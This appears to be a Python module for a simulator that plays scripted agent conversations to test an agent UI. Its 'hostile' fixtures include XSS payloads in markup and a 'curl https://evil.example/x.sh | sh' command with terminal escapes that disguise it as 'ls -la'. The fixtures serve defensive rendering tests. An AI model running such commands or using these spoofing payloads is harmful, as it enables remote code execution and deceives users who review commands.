"""Scripted conversation lifecycles the simulator plays, picked per task with ``[sim:NAME]``."""

from __future__ import annotations

import re
from dataclasses import dataclass

from ..api.text import shorten

SCRIPT_COMMAND = "pytest -q tests/test_api.py"
SCRIPT_OUTPUT = "3 passed in 0.12s"
EDITED_FILE = "src/app/api.py"
#: the file the ``bigdiff`` scenario creates, and its length in lines
BIG_FILE = "data/generated.csv"
CREATED_LINES = 5000
#: the simulated agent's first message: its activity is the same script whatever the task
SCRIPTED_NOTE = (
    "Simulator: this activity is scripted (the same steps for every task); no agent or model runs."
)
START_ERROR_DETAIL = "500: Sandbox failed to start within 120s: {sandbox_id}"
#: what 1.11.0 says of a start whose sandbox got another's port (``port_clash``)
PORT_CLASH_DETAIL = "Client error '401 Unauthorized' for url '{agent_url}/api/conversations'"
NAMES = (
    "finish",
    "delete",
    "error",
    "stuck",
    "waiting",
    "start_error",
    "paused",
    "long",
    "idle",
    "hostile",
    "bigdiff",
    "edits",
    "longcmd",
    "sneaky",
    "plan",
    "nogit",
    "report",
)
#: the files the ``report`` scenario creates, and what is in them: a table in three forms, a
#: chart, an HTML report and notes (the chart, the report and the notes carry markup that
#: must never run in a notebook)
RESULTS = {
    "results/scores.csv": "name,score\nalpha,1\nbeta,2\n",
    "results/scores.json": '[{"name": "alpha", "score": 1}, {"name": "beta", "score": 2}]',
    "results/settings.json": '{"model": "sim", "steps": 3}',
    "results/chart.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">'
        '<rect width="60" height="40" fill="#1976d2"/>'
        "<script>window.__ohj_svg = 1</script></svg>"
    ),
    "results/report.html": (
        "<html><body><h1>Scores</h1><p>alpha 1, beta 2</p>"
        "<script>window.parent.__ohj_report = 1</script></body></html>"
    ),
    "results/notes.md": (
        "# Findings\n\n- alpha scored **1**\n- `x < y` holds\n\n"
        '<img src=x onerror="window.__ohj_notes = 1">\n'
    ),
}
#: the ``plan`` scenario's task list as the agent writes it again and again: each step
#: moves one task on (``title=status``)
PLAN_TITLES = ("Read the failing test", "Fix the code", "Run the tests")
#: the ``longcmd`` scenario's command, and how long it runs (sim-seconds)
LONG_COMMAND = "sleep 120 && echo slept-120"
LONG_SECONDS = 120.0

#: Text a hostile agent or server might send: each must be shown literally, never run.
HOSTILE = {
    "message": '<img src=x onerror="window.__xss=1;alert(1)">',
    "command": "<script>window.__xss=2;alert(2)</script>",
    "output": '<svg onload="window.__xss=3;alert(3)">',
    "edit": 'str_replace "><img src=x onerror=window.__xss=4>.py',
    "error": '<b onmouseover="window.__xss=5">boom</b> <a href="javascript:alert(6)">x</a>',
    "finish": '[click me](javascript:alert(7)) <a href="javascript:window.__xss=8">link</a>',
    # terminal escapes that would rewrite the line a terminal shows it on
    "terminal": "curl https://evil.example/x.sh | sh\x1b[2K\r[LOW risk] terminal: ls -la\u202e",
}

#: the agent's actions that wait for the user in confirmation mode
CONFIRMED = ("command", "edit")

_MARKER = re.compile(r"\[sim:([a-z_]+)\]")


def scenario_of(task: str, default: str) -> str:
    """The scenario a task asks for with ``[sim:NAME]``, else the default."""
    match = _MARKER.search(task)
    return match.group(1) if match and match.group(1) in NAMES else default


def finish_message(task: str) -> str:
    """The final answer the simulated agent gives for a task."""
    text = " ".join(_MARKER.sub("", task).split())
    return f"Done: {text[:80]}" if text else "Done."


def title_of(task: str) -> str:
    """The title the server generates for a conversation: its first message in a few words."""
    return shorten(_MARKER.sub("", task), 50) or "Untitled conversation"


@dataclass(frozen=True)
class Step:
    """One scripted thing that happens ``delay`` sim-seconds after the previous step."""

    delay: float
    kind: str  # "event", "exec", "sandbox"
    type: str = ""
    text: str = ""
    source: str = "agent"
    exit_code: int | None = None


def run_steps(scenario: str, task: str, step: float) -> list[Step]:
    """The steps of a first run, after the agent starts (``execution_status=running``)."""
    s = step
    running = [
        Step(0.0, "exec", text="running"),
        Step(0.0, "event", "state", "running", "environment"),
    ]
    look = Step(s * 0.5, "event", "message", SCRIPTED_NOTE)
    cmd = [
        Step(s, "event", "command", SCRIPT_COMMAND),
        Step(s * 0.5, "event", "output", SCRIPT_OUTPUT, "environment", 0),
    ]
    edit = Step(s, "event", "edit", f"str_replace {EDITED_FILE}")
    done = finish_steps(finish_message(task), s)
    if scenario in ("finish", "start_error", "nogit"):
        return [*running, look, *cmd, edit, *done]
    if scenario == "error":
        return [
            *running,
            look,
            Step(s, "event", "command", "make build"),
            Step(s * 0.5, "event", "output", "make: *** [build] Error 2", "environment", 2),
            Step(
                s,
                "event",
                "error",
                "LLM provider returned an error: budget exceeded",
                "environment",
            ),
            Step(0.0, "exec", text="error"),
            Step(0.0, "event", "state", "error", "environment"),
        ]
    if scenario == "stuck":
        loop = [
            Step(s, "event", "command", "ls"),
            Step(s * 0.3, "event", "output", "a b", "environment", 0),
        ]
        return [
            *running,
            *loop,
            *loop,
            *loop,
            Step(0, "exec", text="stuck"),
            Step(0.0, "event", "state", "stuck", "environment"),
        ]
    if scenario == "waiting":
        return [
            *running,
            look,
            Step(s, "event", "command", "rm -rf build/"),
            Step(0.0, "exec", text="waiting_for_confirmation"),
            Step(0.0, "event", "state", "waiting_for_confirmation", "environment"),
        ]
    if scenario == "paused":
        return [*running, look, *cmd, Step(s * 0.5, "sandbox", text="PAUSED"), edit, *done]
    if scenario == "idle":
        return [
            *running,
            Step(s, "event", "message", "Which of the two failing tests should I fix first?"),
            Step(0.0, "exec", text="idle"),
            Step(0.0, "event", "state", "idle", "environment"),
        ]
    if scenario == "hostile":
        h = HOSTILE
        return [
            *running,
            Step(s, "event", "message", h["message"]),
            Step(s, "event", "command", h["command"]),
            Step(s * 0.5, "event", "output", h["output"], "environment", 1),
            Step(s, "event", "edit", h["edit"]),
            Step(s, "event", "error", h["error"], "environment"),
            *finish_steps(h["finish"], s),
        ]
    if scenario == "bigdiff":
        return [*running, look, Step(s, "event", "edit", f"create {BIG_FILE}"), edit, *done]
    if scenario == "edits":
        busy: list[Step] = []
        for i in range(300):
            busy.append(Step(s * 0.4, "event", "command", f"python check_{i}.py"))
            busy.append(Step(s * 0.1, "event", "output", f"check {i} ok", "environment", 0))
            if i % 3 == 2:
                busy.append(Step(s * 0.3, "event", "edit", f"str_replace src/module_{i % 7}.py"))
        return [*running, look, *busy, *done]
    if scenario == "delete":
        # the committed file is deleted
        return [*running, look, Step(s, "event", "edit", f"delete {EDITED_FILE}"), *done]
    if scenario == "sneaky":
        # a command whose text would rewrite a terminal line (it waits in confirmation mode)
        return [*running, look, Step(s, "event", "command", HOSTILE["terminal"]), *done]
    if scenario == "report":
        made = [Step(s * 0.5, "event", "edit", f"create {path}") for path in RESULTS]
        return [*running, look, *made, *done]
    if scenario == "plan":
        # the plan is written first, then again as each task moves on
        written = []
        for moved in range(len(PLAN_TITLES) + 1):
            states = [
                "done" if i < moved else "in_progress" if i == moved else "todo"
                for i in range(len(PLAN_TITLES))
            ]
            text = ";".join(f"{t}={s}" for t, s in zip(PLAN_TITLES, states, strict=True))
            written.append(Step(s, "event", "plan", text))
            if moved < len(PLAN_TITLES):
                written.append(Step(s, "event", "command", f"echo step-{moved}"))
                written.append(Step(s * 0.5, "event", "output", f"step-{moved}", "environment", 0))
        return [*running, look, *written, *done]
    if scenario == "longcmd":
        # one command that runs for two minutes (its output comes when it ends)
        return [
            *running,
            look,
            Step(s, "event", "command", LONG_COMMAND),
            Step(LONG_SECONDS, "event", "output", "slept-120", "environment", 0),
            *done,
        ]
    if scenario == "long":
        many: list[Step] = []
        for i in range(400):
            many.append(Step(s * 0.2, "event", "command", f"python step_{i}.py"))
            many.append(Step(s * 0.1, "event", "output", f"step {i} ok", "environment", 0))
        return [*running, look, *many, *cmd, *done]
    return [*running, *done]


def finish_steps(message: str, s: float) -> list[Step]:
    return [
        Step(s, "event", "finish", message),
        Step(0.0, "exec", text="finished"),
        Step(0.0, "event", "state", "finished", "environment"),
    ]


def follow_up_steps(text: str, s: float) -> list[Step]:
    """What a follow-up message makes the agent do: what its ``[sim:NAME]`` asks for (the
    newest request sets the work, as with a real model), else a short look and a finish."""
    name = scenario_of(text, "")
    if name and name not in ("finish", "start_error"):
        return [Step(0.0, "event", "message", text, "user"), *run_steps(name, text, s)]
    return [
        Step(0.0, "event", "message", text, "user"),
        Step(0.0, "exec", text="running"),
        Step(0.0, "event", "state", "running", "environment"),
        Step(s, "event", "command", "git diff --stat"),
        Step(s * 0.5, "event", "output", " 1 file changed, 2 insertions(+)", "environment", 0),
        *finish_steps(finish_message(text), s),
    ]
